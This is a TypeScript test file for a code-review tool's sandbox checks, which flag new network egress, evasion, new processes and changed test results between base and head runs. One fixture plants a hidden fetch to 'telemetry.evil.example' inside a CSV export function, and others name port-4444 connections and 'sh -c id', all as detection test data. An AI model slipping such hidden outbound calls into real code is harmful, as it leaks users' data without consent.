import { describe, expect, test } from "vitest";

import type { ChangedFile } from "../../../../server/core/change.ts";
import type { CheckInput } from "../../../../server/core/checks/check.ts";
import { isAllowedEgress } from "../../../../server/core/checks/egress.ts";
import { framesIn } from "../../../../server/core/checks/run-places.ts";
import { sandboxFindings } from "../../../../server/core/checks/sandbox.ts";
import { compareRuns } from "../../../../server/core/compare-runs.ts";
import type { Finding } from "../../../../server/core/finding.ts";
import { PRESETS } from "../../../../server/core/policy/presets.ts";
import type { RunRecord } from "../../../../server/core/run.ts";
import { aRunRecord as run } from "../../../fakes/run-record.ts";
import { behaviour, outcome } from "../run-records.ts";

const EXPORT = [
  'import { stringify } from "csv";',
  "export const csv = (rows) => {",
  '  fetch("https://telemetry.evil.example/x");',
  "  return stringify(rows);",
  "};",
].join("\n");
const MANIFEST = ["{", '  "dependencies": {', '    "csv": "^1.0.0"', "  }", "}"].join("\n");
const TESTS = ['test("writes headers", () => {', "  check();", "});"].join("\n");

function changed(path: string, blob: string, start: number, end: number): ChangedFile {
  return {
    path,
    status: "modified",
    before: { path, blob: `${blob}-before`, mode: "100644" },
    after: { path, blob, mode: "100644" },
    opaque: false,
    addedLines: [{ start, end }],
    removedLineCount: 0,
    lines: [],
  };
}

function inputWith(egress: readonly string[] = []): CheckInput {
  return {
    change: {
      schemaVersion: 1,
      id: `sha256:${"3".repeat(64)}`,
      branch: "b",
      base: { commit: "1".repeat(40), tree: "2".repeat(40) },
      head: { kind: "commit", commit: "3".repeat(40), tree: "4".repeat(40) },
      files: [
        changed("package.json", "manifest", 3, 3),
        changed("src/export.ts", "export", 3, 4),
        changed("test/export.test.ts", "tests", 2, 2),
      ],
      sessions: [],
    },
    texts: new Map([
      ["manifest", MANIFEST],
      ["export", EXPORT],
      ["tests", TESTS],
    ]),
    context: new Map([["package-lock.json", '{\n  "node_modules/deep": {}\n}']]),
    facts: [],
    policy: { ...PRESETS.balanced, sandbox: { ...PRESETS.balanced.sandbox, egress } },
    assistedPaths: new Set(),
    secrets: { places: new Map(), failures: new Map() },
  };
}

function findings(
  base: Partial<RunRecord>,
  head: Partial<RunRecord>,
  egress: readonly string[] = [],
): readonly Finding[] {
  const runs = { kind: "done", base: run(base), head: run(head) } as const;
  return sandboxFindings(inputWith(egress), runs, compareRuns(runs.base, runs.head));
}

const place = ({ location }: Finding): string => `${location.path}:${location.startLine}`;
const told = (list: readonly Finding[]): string[] =>
  list.map((each) => `${each.rule} ${each.kind} ${place(each)}`);

describe("sandboxFindings", () => {
  test("says nothing where head does as base does, and nothing of a change without files", () => {
    const same = { tests: [outcome("a", "passed")], behaviours: [behaviour.lookup("a.example")] };
    expect(findings(same, same)).toEqual([]);
    const input = inputWith();
    const empty = { ...input, change: { ...input.change, files: [] } };
    expect(sandboxFindings(empty, { kind: "missing", reason: "x", remedy: "y" }, null)).toEqual([]);
  });

  test("a missing run is unproven with its reason and remedy", () => {
    const runs = { kind: "missing", reason: "No engine.", remedy: "Start one." } as const;
    const [found, ...rest] = sandboxFindings(inputWith(), runs, null);
    expect(rest).toEqual([]);
    expect(found).toMatchObject({
      rule: "sandbox/could-not-run",
      kind: "unproven",
      message: "No engine.",
      remedy: "Start one.",
      location: { path: "src/export.ts", startLine: 3 },
    });
  });

  test("evidence names both runs", () => {
    const [found] = findings({}, { behaviours: [behaviour.lookup("a.example")] });
    expect(found?.evidence).toHaveLength(2);
    expect(new Set(found?.evidence).size).toBe(2);
  });
});

describe("sandbox/could-not-run", () => {
  const proven = run().isolation;
  test.for([
    ["tampered head", {}, { end: { reason: "tampered" } }],
    ["tampered base", { end: { reason: "tampered" } }, {}],
    ["lost engine", {}, { end: { reason: "engine-lost", detail: "gone" } }],
    ["cancelled run", {}, { end: { reason: "cancelled" } }],
    ["base that does not end", { end: { reason: "timeout" } }, {}],
    [
      "base that fails without a failing test",
      { end: { reason: "exited", code: 1 }, tests: [outcome("a", "passed")] },
      {},
    ],
    [
      "open network",
      {},
      { isolation: { ...proven, selfTest: { ...proven.selfTest, connectionDenied: false } } },
    ],
    [
      "writable root",
      {},
      { isolation: { ...proven, selfTest: { ...proven.selfTest, writeDenied: false } } },
    ],
    [
      "privileged box",
      {},
      { isolation: { ...proven, selfTest: { ...proven.selfTest, unprivileged: false } } },
    ],
    [
      "box without limits",
      { isolation: { ...proven, selfTest: { ...proven.selfTest, limitsApplied: false } } },
      {},
    ],
    ["run without a box", {}, { isolation: { ...proven, level: "none" } }],
  ] satisfies [string, Partial<RunRecord>, Partial<RunRecord>][])("%s", ([, base, head]) => {
    const found = findings(base, head);
    expect(
      found.some(({ rule, kind }) => rule === "sandbox/could-not-run" && kind === "unproven"),
    ).toBe(true);
  });

  test("still tells what was seen", () => {
    const found = findings(
      {},
      { end: { reason: "tampered" }, behaviours: [behaviour.connect("203.0.113.5", 443)] },
    );
    expect(found.map(({ rule }) => rule)).toContain("sandbox/new-egress");
  });

  test("is not said of a base whose failing tests can be compared", () => {
    const base = { end: { reason: "exited", code: 1 } as const, tests: [outcome("a", "failed")] };
    expect(findings(base, base)).toEqual([]);
  });
});

describe("sandbox/test-outcome-changed", () => {
  const passed = { tests: [outcome("export › writes headers", "passed")] };
  const failing = (message: string, extra = {}) => ({
    end: { reason: "exited", code: 1 } as const,
    tests: [{ ...outcome("export › writes headers", "failed"), message, ...extra }],
  });

  test("stands at the changed line in the test's stack, with the test beside it", () => {
    const message =
      "Error: no\n    at csv (file:///workspace/src/export.ts:3:3)\n    at file:///workspace/test/export.test.ts:2:3";
    const location = { path: "test/export.test.ts", line: 1 };
    const [found, ...rest] = findings(passed, failing(message, { location }));
    expect(rest).toEqual([]);
    expect(told(found ? [found] : [])).toEqual([
      "sandbox/test-outcome-changed violation src/export.ts:3",
    ]);
    expect(found?.related[0]?.location).toMatchObject({
      path: "test/export.test.ts",
      startLine: 1,
    });
    expect(found?.message).toContain("passed before and fails now: Error: no");
  });

  test.for([
    ["Expected values to be strictly equal:\n\n3 !== 4\n", "strictly equal: 3 !== 4."],
    ["Expected values to be strictly equal:", "strictly equal."],
    ["It broke.\n    at x", "fails now: It broke."],
    [" \n\n", "fails now."],
  ] as const)("ends its message well for %j", ([message, end]) => {
    expect(findings(passed, failing(message))[0]?.message.endsWith(end)).toBe(true);
  });

  test("stands at the test where the stack has no changed line, or where only the name is known", () => {
    const location = { path: "test/export.test.ts", line: 1 };
    expect(told(findings(passed, failing("Error", { location })))).toEqual([
      "sandbox/test-outcome-changed violation test/export.test.ts:1",
    ]);
    expect(told(findings(passed, failing("Error")))).toEqual([
      "sandbox/test-outcome-changed violation test/export.test.ts:1",
    ]);
  });

  test.for([
    ["gone", [], "is gone"],
    ["skipped", [outcome("export › writes headers", "skipped")], "is skipped now"],
  ] as const)("a test that is %s", ([, tests, says]) => {
    expect(findings(passed, { tests })[0]?.message).toContain(says);
  });

  test("a new test that fails, but not one that passes", () => {
    const head = {
      end: { reason: "exited", code: 1 } as const,
      tests: [...passed.tests, outcome("n", "failed")],
    };
    expect(findings(passed, head)[0]?.message).toContain("is new and fails");
    expect(findings(passed, { tests: [...passed.tests, outcome("n", "passed")] })).toEqual([]);
  });

  test("believes the exit code and not the tests that the program prints", () => {
    const head = { ...passed, end: { reason: "exited", code: 7 } as const };
    expect(findings(passed, head).map(({ message }) => message)).toEqual([
      "With the change the command ends with exit code 7; on the base it ends with 0.",
    ]);
    const broken = { end: { reason: "exited", code: 1 } as const, tests: [outcome("x", "failed")] };
    expect(findings(broken, { ...head, tests: [] })).toHaveLength(1);
  });

  test("does not call tests gone that a run did not get to", () => {
    expect(told(findings(passed, { end: { reason: "timeout" }, tests: [] }))).toEqual([
      "sandbox/resource-limit violation src/export.ts:3",
    ]);
  });

  test("a thousand broken tests are told in some fifty findings", () => {
    const names = Array.from({ length: 1000 }, (_, at) => `t${at}`);
    const found = findings(
      { tests: names.map((name) => outcome(name, "passed")) },
      { end: { reason: "exited", code: 1 }, tests: names.map((name) => outcome(name, "failed")) },
    );
    expect(found).toHaveLength(51);
    expect(found.at(-1)?.message).toContain("950 more tests");
  });

  test("escapes what a test is called", () => {
    const head = {
      end: { reason: "exited", code: 1 } as const,
      tests: [outcome("\u001b[2J\u202e", "failed")],
    };
    expect(findings({}, head)[0]?.message).toContain(String.raw`\u{1b}[2J\u{202e}`);
  });
});

describe("sandbox/new-egress", () => {
  const frame = (path: string, line: number) => ({ path, line, column: 1 });
  const at = (...stack: ReturnType<typeof frame>[]) =>
    findings({}, { behaviours: [behaviour.connect("198.51.100.7", 443, stack)] })[0];

  test("stands at the changed line that is nearest in the stack, the package beside it", () => {
    const found = at(
      frame("node_modules/csv/index.js", 9),
      frame("src/other.ts", 5),
      frame("src/export.ts", 4),
      frame("src/export.ts", 3),
    );
    expect(told(found ? [found] : [])).toEqual(["sandbox/new-egress violation src/export.ts:4"]);
    expect(
      found?.related.map(
        ({ location, message }) => `${location.path}:${location.startLine} ${message}`,
      ),
    ).toEqual(["src/export.ts:3 called from this line", "package.json:3 the package csv"]);
  });

  test("stands at the repository's own nearest frame where no changed line is in the stack", () => {
    expect(at(frame("node_modules/csv/a.js", 1), frame("src/old.ts", 5))).toMatchObject({
      location: { path: "src/old.ts", startLine: 5 },
    });
  });

  test.for([
    ["a direct dependency, at its manifest line", "node_modules/csv/a.js", "package.json", 3],
    [
      "an indirect one, in the lock file",
      "node_modules/csv/node_modules/deep/a.js",
      "package-lock.json",
      2,
    ],
    ["one that nothing names, at the manifest", "node_modules/ghost/a.js", "package.json", 1],
  ] as const)("stands at %s", ([, path, file, line]) => {
    expect(at(frame(path, 1))).toMatchObject({ location: { path: file, startLine: line } });
  });

  test("without a stack stands at the new line that names the host, else where the change begins", () => {
    const seen = (name: string) => findings({}, { behaviours: [behaviour.lookup(name)] })[0];
    expect(seen("telemetry.evil.example")).toMatchObject({
      location: { path: "src/export.ts", startLine: 3 },
    });
    expect(seen("built.from.parts")).toMatchObject({
      location: { path: "src/export.ts", startLine: 3 },
    });
  });

  test("is one finding for all attempts at one host, and none for the box itself", () => {
    const found = findings(
      {},
      {
        behaviours: [
          behaviour.lookup("a.example"),
          behaviour.lookup("a.example", undefined, "AAAA"),
          behaviour.connect("203.0.113.5", 80),
          behaviour.connect("203.0.113.5", 443),
          behaviour.connect("127.0.0.1", 4000),
          behaviour.connect("::1", 4000),
        ],
      },
    );
    expect(found.map(({ message }) => message)).toEqual([
      "The change tries to connect to 203.0.113.5:443/tcp, 203.0.113.5:80/tcp (node --test); the base does not. It was refused.",
      "The change looks up a.example; the base does not. It was refused.",
    ]);
  });

  test("is not said of hosts that the policy allows", () => {
    const behaviours = [
      behaviour.lookup("api.good.example"),
      behaviour.connect("203.0.113.5", 443),
    ];
    expect(findings({}, { behaviours }, ["*.good.example", "203.0.113.5:443"])).toEqual([]);
    expect(findings({}, { behaviours }, ["good.example", "203.0.113.5:80"])).toHaveLength(2);
  });
});

describe("sandbox/evasion", () => {
  const past = (one: RunRecord["behaviours"][number]) =>
    ({ ...one, unseenByProbe: true }) as RunRecord["behaviours"][number];
  const evasions = (
    head: RunRecord["behaviours"],
    base: RunRecord["behaviours"] = [],
    egress: string[] = [],
  ) => {
    const runs = {
      kind: "done",
      base: run({ behaviours: base }),
      head: run({ behaviours: head }),
    } as const;
    return sandboxFindings(inputWith(egress), runs, compareRuns(runs.base, runs.head)).filter(
      ({ rule }) => rule === "sandbox/evasion",
    );
  };

  test("is one finding for each thing that the probe did not see, at a line that names it", () => {
    const found = evasions([
      past(behaviour.connect("198.51.100.9", 4444)),
      past(behaviour.process("stringify", "-x")),
      behaviour.connect("198.51.100.10", 4444),
    ]);
    expect(found.map(({ message, severity }) => [severity, message])).toEqual([
      [
        "error",
        "A Node process connected to `198.51.100.9:4444/tcp` past the probe that watched it; the kernel saw it.",
      ],
      [
        "error",
        "A Node process started `stringify -x` past the probe that watched it; the kernel saw it.",
      ],
    ]);
    expect(found[1]?.location).toMatchObject({ path: "src/export.ts", startLine: 4 });
  });

  test("is nothing that the base does too, or that policy allows", () => {
    const head = [past(behaviour.connect("198.51.100.9", 4444))];
    expect(evasions(head, head)).toEqual([]);
    expect(evasions(head, [], ["198.51.100.9:4444"])).toEqual([]);
  });
});

describe("sandbox/new-process", () => {
  test("is one finding a program, with a command line, at the line that names it", () => {
    const found = findings(
      {},
      {
        behaviours: [
          behaviour.process("/bin/sh", "-c", "stringify x"),
          behaviour.process("sh", "-c", "id"),
        ],
      },
    );
    expect(found).toHaveLength(1);
    expect(found[0]?.message).toContain("and 1 more like it");
    expect(found[0]?.rule).toBe("sandbox/new-process");
  });
});

describe("isAllowedEgress", () => {
  test.for([
    ["a.example", "a.example", 443, true],
    ["A.Example.", "a.example", 443, true],
    ["a.example", "b.a.example", 443, false],
    ["*.a.example", "x.y.a.example", 443, true],
    ["*.a.example", "a.example", 443, false],
    ["*.a.example", "evila.example", 443, false],
    ["a.example:443", "a.example", 443, true],
    ["a.example:443", "a.example", 80, false],
    ["a.example:443", "a.example", null, true],
    ["[2001:db8::1]:443", "2001:db8::1", 443, true],
    ["2001:db8::1", "2001:db8::1", 1, true],
    ["203.0.113.5", "::ffff:203.0.113.5", 1, true],
    ["a.example", "a.example.evil.example", 443, false],
    ["*", "a.example", 443, false],
    ["*.", "a.example", 443, false],
  ] as const)("entry %s, host %s, port %s: %s", ([entry, host, port, allowed]) => {
    expect(isAllowedEgress([entry], host, port)).toBe(allowed);
  });
});

describe("framesIn", () => {
  test("reads Node's and Python's frames, nearest first, and no internals", () => {
    const node =
      "    at f (file:///workspace/src/a.ts:3:7)\n    at Test.run (node:internal/test_runner/test:1402:25)\n    at g (/usr/lib/x.js:1:1)\n    at h (../../etc/x.js:1:1)";
    expect(framesIn(node)).toEqual([{ path: "src/a.ts", line: 3, column: 7 }]);
    const python =
      '  File "/workspace/a.py", line 1, in f\n  File "/workspace/b.py", line 2, in g\n  File "/usr/lib/c.py", line 3';
    expect(framesIn(python).map(({ path }) => path)).toEqual(["b.py", "a.py"]);
  });
});
